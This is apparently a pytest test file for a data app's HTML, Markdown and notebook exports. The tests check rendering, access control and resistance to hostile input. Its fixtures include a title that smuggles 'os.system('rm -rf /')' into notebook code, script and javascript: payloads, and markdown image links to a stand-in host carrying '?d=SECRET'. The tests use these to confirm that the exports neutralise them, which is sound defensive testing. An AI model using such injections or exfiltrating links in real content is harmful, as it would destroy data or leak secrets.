"""Exports: a self-contained HTML report, Markdown with pictures, and a notebook that runs."""

import io
import json
import re
import time
import zipfile
from pathlib import Path

import nbformat
import pandas as pd
import pytest

from services.access.permissions import Role
from services.data import datasets
from services.errors import NotFound
from services.reports import html_report, item_export, markdown_report, notebook
from services.reports.bundle import Picture, load_export
from services.research import items
from services.research import saved_insights as research
from services.research.items import ItemInput
from services.research.saved_insights import NewInsight
from tests.factories import make_user
from tests.unit.reports.conftest import Story

PNG = b"\x89PNG\r\n\x1a\n" + b"0" * 20


def test_html_report_is_one_accessible_offline_file(story: Story) -> None:
    export = load_export(story.owner, story.item_id)
    chart_id = export.insights[0].id
    page = html_report.build_html(export, {chart_id: Picture(png=PNG, alt="Gentoo is longest")})
    text = page.decode("utf-8")
    assert text.startswith("<!DOCTYPE html>") and '<html lang="en">' in text
    assert "<h1>Penguin bills &lt;b&gt;by&lt;/b&gt; species</h1>" in text
    assert text.count("<h2>") == 2 and text.count("<h3") == 3  # 2 insights + the notes' own
    assert "<h3>Findings</h3>" in text  # "# Findings" sits under "Notes"
    assert 'alt="Gentoo is longest"' in text and "data:image/png;base64," in text
    assert "<script" not in text and "&lt;script&gt;" in text  # the note's script is text
    # no link from the notes is live; each shows its address as code (issue 18.3)
    assert "<a " not in text and "[bad](javascript:alert(2))" in text
    assert "good (<code>https://allisonhorst.github.io/palmerpenguins/</code>)" in text
    assert "<caption>Data behind “Mean bill length by species”</caption>" in text
    assert "<strong>Question:</strong> How heavy is each species?" in text
    assert "SELECT species" in text
    assert not re.search(r'(src|href)="(?!data:)', text)  # offline
    # the answer has no picture given: it says so and still has its table
    assert "The picture of this chart is not included" in text


def test_markdown_zip_has_report_pictures_and_safe_csv(story: Story) -> None:
    export = load_export(story.owner, story.item_id)
    chart_id = export.insights[0].id
    archive = zipfile.ZipFile(io.BytesIO(markdown_report.build_markdown_zip(
        export, {chart_id: Picture(png=PNG, alt="Gentoo is longest")})))
    names = archive.namelist()
    assert "report.md" in names and "images/001-mean-bill-length-by-species.png" in names
    assert "data/002-how-heavy-is-each-species.csv" in names
    report = archive.read("report.md").decode()
    assert "![Gentoo is longest](images/001-mean-bill-length-by-species.png)" in report
    assert "\\<script\\>" in report and "<script>" not in report
    assert "| species |" in report


def test_viewers_export_shared_items_but_not_private_ones(story: Story) -> None:
    from services.access import users

    admin = users.get_user("ada")
    assert admin is not None
    viewer = make_user(admin, "vic", Role.VIEWER)
    assert load_export(viewer, story.item_id).item.title.startswith("Penguin")
    private = items.create_item(story.owner, ItemInput(title="Mine only"))
    with pytest.raises(NotFound):
        item_export.notebook_bytes(viewer, private.id)
    with pytest.raises(NotFound):
        item_export.html_bytes(viewer, private.id, budget_s=0)


def _run(zip_bytes: bytes, folder: Path) -> nbformat.NotebookNode:
    from nbclient import NotebookClient

    zipfile.ZipFile(io.BytesIO(zip_bytes)).extractall(folder)
    path = next(folder.glob("*.ipynb"))
    book = nbformat.read(path, as_version=4)
    nbformat.validate(book)
    NotebookClient(book, timeout=120, kernel_name="python3",
                   resources={"metadata": {"path": str(folder)}}).execute()
    return book


def _printed(book: nbformat.NotebookNode) -> str:
    return "\n".join(o.get("text", "") for c in book.cells if c.cell_type == "code"
                     for o in c.get("outputs", []) if o.get("output_type") == "stream")


def test_notebook_runs_and_its_numbers_match_the_apps(story: Story, tmp_path: Path) -> None:
    zip_bytes = item_export.notebook_bytes(story.owner, story.item_id)
    names = zipfile.ZipFile(io.BytesIO(zip_bytes)).namelist()
    assert "data/penguins-v1.parquet" in names and "README.txt" in names
    book = _run(zip_bytes, tmp_path)
    printed = _printed(book)
    # the chart's grouping and the answer's SQL, rerun by DuckDB in the notebook, give the
    # numbers the app computed (3 species each)
    assert printed.count("3 of 3 saved rows match the numbers computed here.") == 2, printed
    saved = pd.read_csv(tmp_path / "data" / "saved" / "001-mean-bill-length-by-species.csv")
    pd.testing.assert_series_equal(saved["Mean of bill_length_mm"],
                                   story.chart["Mean of bill_length_mm"], check_names=False)
    sources = "\n".join(c.source for c in book.cells)
    assert "<script>alert(1)</script>" not in sources  # notes cells are neutralised
    assert "fig = px.bar(" in sources and "con.sql(sql).df()" in sources
    assert any(o.get("output_type") == "display_data" for c in book.cells
               if c.cell_type == "code" for o in c.get("outputs", []))  # charts drawn


def test_notebook_of_a_deleted_dataset_uses_the_saved_rows(story: Story,
                                                             tmp_path: Path) -> None:
    datasets.delete_dataset(story.owner, story.dataset_id)
    zip_bytes = item_export.notebook_bytes(story.owner, story.item_id)
    assert not any(n.endswith(".parquet")
                   for n in zipfile.ZipFile(io.BytesIO(zip_bytes)).namelist())
    book = _run(zip_bytes, tmp_path)
    sources = "\n".join(c.source for c in book.cells)
    assert "its dataset was deleted" in sources
    assert all(o.get("output_type") != "error" for c in book.cells if c.cell_type == "code"
               for o in c.get("outputs", []))


def test_hostile_titles_and_sql_stay_data_in_the_notebook(story: Story) -> None:
    title = "x')\nimport os; os.system('rm -rf /') #"
    research.save_insight(story.owner, NewInsight(
        item_id=story.item_id, kind="answer", title=title, summary="",
        spec={"question": title, "sql": "SELECT 1 AS \"\"\"'); import os #\"",
              "tables": {"penguins": "penguins"}}, dataset_id=story.dataset_id),
        pd.DataFrame({"a": [1]}))
    book = notebook.build_notebook(load_export(story.owner, story.item_id))
    code = "\n".join(c.source for c in book.cells if c.cell_type == "code")
    compile(code.replace("fig.show()", ""), "notebook", "exec")  # still valid Python
    assert "\nimport os" not in code


def test_export_of_200_insights_is_quick(story: Story) -> None:
    for n in range(198):
        research.save_insight(story.owner, NewInsight(
            item_id=story.item_id, kind="answer", title=f"Answer {n}", summary="text",
            spec={"question": f"Q{n}", "sql": "SELECT 1", "tables": {}}),
            pd.DataFrame({"group": ["a", "b"], "n": [n, n + 1]}))
    started = time.perf_counter()
    export = load_export(story.owner, story.item_id)
    html = html_report.build_html(export)
    book = notebook.build_notebook_zip(export)
    md = markdown_report.build_markdown_zip(export)
    elapsed = time.perf_counter() - started
    assert len(export.insights) == 200
    assert html.decode().count('<section class="insight"') == 200
    assert len(zipfile.ZipFile(io.BytesIO(book)).namelist()) > 200 and md
    assert elapsed < 120, elapsed  # bounded (no pictures are drawn here); not a benchmark
    first = json.loads(zipfile.ZipFile(io.BytesIO(book)).read(
        "penguin-bills-b-by-b-species.ipynb"))
    assert first["nbformat"] == 4


def test_notebook_reruns_dates_filters_and_colours(tmp_path: Path) -> None:
    from services.access import users
    from services.charts.spec import ChartSpec, Filter
    from services.data import samples
    from tests.unit.reports.conftest import save_chart

    admin = users.create_first_admin(users.NewUser(
        username="ada", name="Ada", password="correct-horse-42", role=Role.ADMIN))
    weather, _ = samples.add_sample(admin, "seattle-weather")
    cars, _ = samples.add_sample(admin, "cars")
    item = items.create_item(admin, ItemInput(title="Weather and cars"))
    save_chart(admin, item.id, weather.id, ChartSpec(
        chart_type="line", x="date", y="temp_max", agg="mean", bucket="month",
        filters=[Filter(column="weather", op="in", value=["rain", "sun"])]),
        "Monthly mean high on rainy and sunny days")
    save_chart(admin, item.id, cars.id, ChartSpec(
        chart_type="stacked_bar", x="Cylinders", color="Origin"), "Cars by cylinders")
    save_chart(admin, item.id, cars.id, ChartSpec(
        chart_type="histogram", x="Horsepower"), "Horsepower")
    book = _run(item_export.notebook_bytes(admin, item.id), tmp_path)
    printed = _printed(book)
    checks = re.findall(r"([\d,]+) of ([\d,]+) saved rows match", printed)
    assert len(checks) == 2 and all(a == b for a, b in checks), printed  # line and bars
    assert ("48", "48") in checks  # 4 years × 12 months
    assert "x='Horsepower from'" in "\n".join(c.source for c in book.cells)  # the histogram
    assert all(o.get("output_type") != "error" for c in book.cells if c.cell_type == "code"
               for o in c.get("outputs", []))


def test_the_notebook_draws_with_the_apps_colours_and_both_log_switches(story: Story) -> None:
    """The notebook had its own copy of the old palette and knew only the Y log switch."""
    from services.charts.palette import SERIES_COLORS

    export = load_export(story.owner, story.item_id)
    chart = next(i for i in export.insights if i.kind == "chart")
    spec = {**chart.spec, "log_x": True, "log_y": True}
    export.insights[export.insights.index(chart)] = chart.model_copy(update={"spec": spec})
    code = "\n".join(c.source for c in notebook.build_notebook(export).cells
                     if c.cell_type == "code")
    assert json.dumps(list(SERIES_COLORS)) in code
    assert 'update_xaxes(type="log")' in code and 'update_yaxes(type="log")' in code


HOSTILE_TEXT = ("Look ![i](http://sink.test/i.png?d=SECRET) ![r][1] [l][1] "
                "<http://sink.test/a?d=SECRET> http://sink.test/b?d=SECRET "
                '<img src="http://sink.test/h.png?d=SECRET"> '
                "[![n](http://sink.test/n.png?d=SECRET)](http://sink.test/m?d=SECRET)\n\n"
                "[1]: http://sink.test/r?d=SECRET")
HOSTILE_COLUMN = "![c](http://sink.test/c.png?d=SECRET) | `x` [y]"


@pytest.fixture
def hostile(story: Story) -> Story:
    """The story's item with hostile notes, a hostile Claude answer and a hostile column."""
    from services.research import notes
    from services.research.notes import NoteSave

    item = items.get_item(story.owner, story.item_id)
    notes.save_notes(story.owner, story.item_id, NoteSave(text=HOSTILE_TEXT,
                                                          base_version=item.notes_version))
    frame = pd.DataFrame({HOSTILE_COLUMN: ["http://sink.test/cell?d=SECRET", "ok"]})
    research.save_insight(story.owner, NewInsight(
        item_id=story.item_id, kind="answer", title="Hostile ![t](http://sink.test/t.png)",
        summary=HOSTILE_TEXT, spec={"question": "Where? ![q](http://sink.test/q.png)",
                                    "row_count": 2}, dataset_id=story.dataset_id), frame)
    return story


def _no_live_markup(markdown: str) -> None:
    from tests.markdown_checks import live_markup

    ours = re.compile(r'<(a href|img src)="(data|images)/')  # the zip's own files
    assert [m for m in live_markup(markdown) if not ours.match(m)] == [], markdown


def test_html_report_has_no_live_image_or_link_from_hostile_text(hostile: Story) -> None:
    text = html_report.build_html(load_export(hostile.owner, hostile.item_id)).decode()
    assert "<a " not in text and "sink.test/i.png" not in text
    assert not re.search(r'src="(?!data:)', text)
    assert "<code>http://sink.test/b?d=SECRET</code>" in text  # shown, not clickable


def test_markdown_zip_has_no_live_image_or_link_from_hostile_text(hostile: Story) -> None:
    archive = zipfile.ZipFile(io.BytesIO(markdown_report.build_markdown_zip(
        load_export(hostile.owner, hostile.item_id))))
    report = archive.read("report.md").decode()
    _no_live_markup(report)
    assert "`http://sink.test/b?d=SECRET`" in report
    header = next(line for line in report.splitlines() if "sink.test/c.png" in line)
    assert header.count(" | ") == 0 and header.startswith("| ")  # one cell, not three


def test_notebook_markdown_cells_have_no_live_image_or_link(hostile: Story) -> None:
    book = notebook.build_notebook(load_export(hostile.owner, hostile.item_id), files={})
    for cell in book.cells:
        if cell.cell_type == "markdown":
            _no_live_markup(cell.source)
    assert any("`http://sink.test/b?d=SECRET`" in c.source for c in book.cells)
